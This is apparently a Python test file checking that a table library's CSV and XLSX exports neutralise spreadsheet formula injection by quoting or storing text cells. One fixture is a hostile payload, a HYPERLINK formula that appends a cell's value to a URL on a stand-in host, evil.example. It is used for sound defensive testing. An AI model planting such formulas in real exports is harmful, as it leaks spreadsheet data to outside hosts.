"""Tables downloaded as CSV or XLSX never run what people wrote as a formula."""

import csv
import io

from openpyxl import load_workbook

from lika.lib.tables import Table, spreadsheet_safe, to_csv, to_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


def _table():
    return Table(
        title="Exempel",
        columns=["Titel", "Antal", "Kommentar"],
        rows=[
            [HOSTILE, 3, "+46 42 10 50 00 är fel nummer"],
            ["@SUM(1+1)", -4, "-12"],
            ["Språkcaféer", None, "vanlig text"],
        ],
    )


def test_csv_cells_that_start_like_a_formula_are_written_as_text():
    rows = list(csv.reader(io.StringIO(to_csv(_table()).decode("utf-8-sig"))))
    assert rows[1][0] == "'" + HOSTILE
    assert rows[1][2] == "'+46 42 10 50 00 är fel nummer"
    assert rows[2][0] == "'@SUM(1+1)"
    # Numbers and text that reads as a number are data, not formulas.
    assert rows[2][1] == "-4"
    assert rows[2][2] == "-12"
    assert rows[3] == ["Språkcaféer", "", "vanlig text"]


def test_xlsx_keeps_the_text_exactly_and_stores_it_as_text_not_a_formula():
    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    cell = sheet["A2"]
    assert cell.value == HOSTILE
    assert cell.data_type == "s"
    assert sheet["B3"].value == -4
    assert sheet["B3"].data_type == "n"


def test_plain_values_pass_through_unchanged():
    assert spreadsheet_safe("Kulturförvaltningen") == "Kulturförvaltningen"
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(7) == 7
    assert spreadsheet_safe("-") == "'-"
